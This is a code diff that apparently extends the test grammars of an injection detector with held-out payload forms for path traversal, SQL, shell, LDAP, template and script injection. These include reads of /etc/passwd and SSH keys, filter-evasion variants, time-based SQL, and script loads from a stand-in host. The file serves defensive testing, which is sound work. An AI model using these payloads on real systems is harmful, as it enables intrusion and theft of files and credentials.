@@ -4,7 +4,7 @@
  */
 
 /** Alternatives for each place of a payload; each payload takes one of each. */
-type Form = readonly (readonly string[])[];
+export type Form = readonly (readonly string[])[];
 
 const UP = ['../', '..\\', '....//', '..;/', '..%2f', '%2e%2e%2f', '..%5c', '%252e%252e%252f'];
 const TARGETS = ['etc/passwd', 'etc/shadow', 'windows/win.ini', 'WEB-INF/web.xml', 'id_rsa', ''];
@@ -110,63 +110,198 @@ export const GRAMMAR: Readonly<Record<string, readonly Form[]>> = {
   ],
 };
 
-/** Forms that the detector was not fitted to; they are measured, and count in the total alone. */
+/** Utilities of POSIX and other programs: a list that was not made with the detector in mind. */
+const UTILITIES =
+  'admin alias ar at awk basename batch bc cal chgrp chmod chown cksum cmp comm compress cp crontab csplit ctags cut date dd df diff dirname du ed env expand expr factor file find fold fuser getconf getopts grep hash head iconv id ipcrm ipcs jobs join kill ld link ln locale logger logname lp m4 mailx make man mesg mkdir mkfifo more mv newgrp nice nl nm nohup od paste patch pathchk pax ps pwd read renice rmdir sed sh sort split stty tabs tail tee test touch tput tr tsort tty type ulimit umask uname uniq unlink vi wait wc who xargs yacc zcat php ruby node reboot telnet ssh scp socat docker systemctl'.split(
+    ' ',
+  );
+const ARGUMENTS = [' -x', ' -la /', ' /tmp/x', ' --help', ' ./x.sh', ' -e 1', ' $HOME', ' x.txt'];
+const HANDLERS = 'start error load play toggle pointerover animationend wheel scroll beforeinput';
+const CALLS = [
+  ...['alert(1)', 'prompt`1`', "import('//x.example')", 'top.alert(1)', "setTimeout('x')"],
+  ...["location='//x.example'", 'confirm(1)'],
+];
+
+/**
+ * Forms that the detector was not fitted to: other places, other commands, other functions than the
+ * grammar above, from lists that others made. A miss in here is never mended by its own words.
+ */
 export const HELD_OUT: Readonly<Record<string, readonly Form[]>> = {
   traversal: [
     [
-      ['%2e%2e/', '..%c0%af', '..\\/', '.%2e/'],
-      ['%2e%2e/', '..%c0%af', '../'],
-      ['boot.ini', 'secret.key'],
+      ['%2e%2e/', '..%c0%af', '..\\/', '.%2e/', '%252e%252e/', '..%ef%bc%8f', '..%u2215', '..//'],
+      ['%2e%2e/', '..%c0%af', '../', '', '..%5c'],
+      ['boot.ini', 'secret.key', '.ssh/id_rsa', 'app/config.yml', ''],
+    ],
+    [
+      ['page=', 'lang/', 'en-GB/', '/static/', 'x.php?f=', '"'],
+      ['../', '..\\', '%2e%2e%5c', '..%2F'],
+      ['', '../', './'],
+      ['x.php%00.png', 'logs/access.log', 'home', 'id_rsa'],
     ],
   ],
   SQL: [
     [
       ["'", "x'"],
       ['||', ' || ', '+'],
-      ['(select password from users)', '(SELECT 1)'],
+      ['(select password from users)', '(SELECT 1)', '(select @@version)'],
       ['||', '+'],
       ["'"],
     ],
     [
-      ["'", "')"],
+      ["'", "')", '1', '1)', '"'],
       [' and ', ' OR '],
-      ['ascii(substring(user(),1,1))', 'length(database())'],
-      ['>64', '=5'],
-      ['#', '-- -'],
+      [
+        ...['ascii(substring(user(),1,1))', 'length(database())', 'row(1,1)', '(select 1 from t)'],
+        ...['if(1=1,1,0)', 'ord(mid(x,1,1))', 'cast(x as int)', 'case when 1=1 then 1 end'],
+      ],
+      ['>64', '=5', '<>1'],
+      ['#', '-- -', ''],
     ],
-    [["'"], [' rlike ', ' regexp ', ' between '], ["'a", "'a' and 'z"], ['', '#']],
     [
-      ['1 ', '0 '],
+      ["'", "x'"],
+      [' rlike ', ' regexp ', ' between ', ' not like ', ' like '],
+      ["'a", "'a' and 'z", "'%"],
+      ['', '#', '--'],
+    ],
+    [
+      ['1 ', '0 ', '-1 ', "' "],
       ['and', 'or'],
-      [' exists(select * from users)', ' true', ' 1 in (1)'],
-      ['--', '#'],
+      [' exists(select * from users)', ' true', ' 1 in (1)', ' 1 is not null', ' pg_sleep(5)'],
+      ['--', '#', '-- x'],
+    ],
+    [
+      ['1', "1'", "')", '"', 'x'],
+      [';', '; '],
+      [
+        ...['select 1', 'SELECT pg_sleep(5)', 'show tables', 'call x()', 'grant all on t to x'],
+        ...['merge into t', 'set role x', "copy t from program 'id'", 'backup database x'],
+      ],
+      ['--', '#', ';'],
+    ],
+    [
+      ['1', "1'", 'x"'],
+      [' into outfile ', ' into dumpfile '],
+      ["'/tmp/x'", '"x.php"'],
+      ['--', '#', ''],
+    ],
+    [
+      ['1', '0', '-1'],
+      ['-', '*', '^', '='],
+      ['sleep(5)', '(select 1)', 'if(1=1,sleep(5),0)', '(select sleep(5))'],
+      ['', '--'],
+    ],
+    [
+      ["'", '"', 'x'],
+      [' union', '/**/union', ' UNION ALL'],
+      [' ', '/**/', '('],
+      ['select ', 'SELECT+'],
+      ['1', 'null,@@version', 'x from y'],
     ],
   ],
   shell: [
     [
-      ['x;', 'x|', '$('],
-      ['tee /tmp/x', 'perl -e 1', 'env', 'chmod 777 x', 'kill -9 1'],
-      ['', ')'],
+      ['x', '', 'a.txt', '8.8.8.8', '"x"', '$(id)'],
+      [';', '; ', '|', ' | ', '||', ' && ', '&', ' & '],
+      UTILITIES,
+      ARGUMENTS,
+      ['', ' #', '; x', ' 2>&1', ' > /tmp/o'],
     ],
-    [['x;'], ['{cat,/etc/passwd}', 'cat\u{24}{IFS}/etc/passwd', "c'a't /etc/passwd"]],
+    [['x', '', 'a=', '"'], ['$('], UTILITIES, ['', ...ARGUMENTS], [')']],
+    [['x', 'a=', '";', '|', '&'], ['`'], UTILITIES, ['', ...ARGUMENTS], ['`']],
+    [['', 'x', '1', 'a.txt'], [';', '%3B'], UTILITIES, ['', ';', ' #', ' x']],
+    [
+      ['x;', '|', '&&'],
+      [
+        ...['{cat,/etc/passwd}', 'cat\u{24}{IFS}/etc/passwd', "c'a't /etc/passwd", 'c""at x'],
+        ...['/b?n/c?t x', 'c\\at x', './x', '/usr/sbin/x', '$0 x', 'cat<x', 'exec 3<>x'],
+      ],
+    ],
   ],
-  LDAP: [[['*'], ['))(', ')(', '))%00('], ['&(userPassword=*', '|(sn=a*', 'memberOf=cn=x']]],
+  LDAP: [
+    [
+      ['*', 'x', 'a*', ''],
+      ['))(', ')(', '))%00(', '))(|('],
+      ['&(userPassword=*', '|(sn=a*', 'memberOf=cn=x', 'givenName~=x', '!(uid=x', 'uid:dn:=x'],
+      ['', ')', '))'],
+    ],
+    [
+      ['(&(', '(|(', '(!('],
+      ['uid', 'sn', 'objectCategory'],
+      ['=*', '=x', '<=z'],
+      [')', '))', ')(cn=*))'],
+    ],
+  ],
   template: [
     [
-      ['@(', '%{', '#set($x=', '{php}', '<#assign x='],
-      ['7*7', '1+1'],
-      [')', '}', ''],
+      [
+        '@(',
+        '%{',
+        '#set($x=',
+        '{php}',
+        '<#assign x=',
+        '@{',
+        '$!{',
+        '{{{',
+        '~{',
+        '[=',
+        '<%-',
+        '<?=',
+      ],
+      ['7*7', '1+1', '7 * 7', "'a'.toUpperCase()"],
+      [')', '}', '', '}}', ' %>'],
+    ],
+    [
+      ['', 'Dear ', 'x='],
+      [
+        ...['{{#with "s" as |x|}}', '{% for x in y %}', '<%= File.open("/x") %>', '{{_self.env}}'],
+        ...[
+          '\u{24}{T(java.lang.Runtime)}',
+          '#{T(x)}',
+          '__\u{24}{7*7}__::.x',
+          '<#if x>',
+          '<!--#exec cmd="id"-->',
+        ],
+        ...['{{constructor.constructor("x")()}}', '\u{24}{"x"?new()("id")}', '{$smarty.version}'],
+      ],
     ],
   ],
   script: [
     [
-      ['<marquee ', '<video src=x ', '<math ', '<object '],
-      ['onstart=', 'onerror=', 'data='],
-      SCRIPTS,
-      ['>'],
+      ['', '">', "'>", '</title>', '--!>'],
+      '<marquee ,<video src=x ,<math ,<object ,<audio src=x ,<select autofocus ,<x ,<a ,<p '.split(
+        ',',
+      ),
+      HANDLERS.split(' ').map((event) => `on${event}=`),
+      CALLS,
+      ['>', '//'],
     ],
-    [["';", '";', "'-", '"-'], SCRIPTS, ['//', "-'", '-"']],
+    [
+      ['', '">', 'x'],
+      ['<a href=', '<form action="', '<button formaction=', '<object data="', '<embed src='],
+      ['javascript:', 'JAVASCRIPT:', 'javascript&colon;', 'java&#115;cript:'],
+      CALLS,
+      ['>', '">'],
+    ],
+    [["';", '";', "'-", '"-', "'+", '"}};', "\\';", '*/'], CALLS, ['//', "-'", '-"', ';//']],
+    [
+      ['', '">', "'"],
+      [
+        ...['<iframe srcdoc="x">', '<script src=//x.example>', '<ScRiPt >alert(1)</ScRiPt>'],
+        ...['<base href=//x.example>', '<meta http-equiv=refresh content=0>', '<svg/onload=x>'],
+        ...['<link rel=import href=//x.example>', '<style>@import "//x.example"</style>'],
+      ],
+    ],
   ],
+};
+
+/**
+ * Attacks that read like text: a type has `x | sort`, prose has "cat & dog" and Markdown has words
+ * between backticks. Only well-known commands are told from those; the rate is printed, not held.
+ */
+export const READ_LIKE_TEXT: Readonly<Record<string, readonly Form[]>> = {
+  'a bare word behind a separator': [[['x', 'a.txt'], [' | ', '|', ' & ', '&', '; '], UTILITIES]],
+  'all of it between backticks': [[['`'], UTILITIES, ['', ...ARGUMENTS], ['`']]],
 };
 
 /** Every payload of a form, thinned evenly to the given number. */
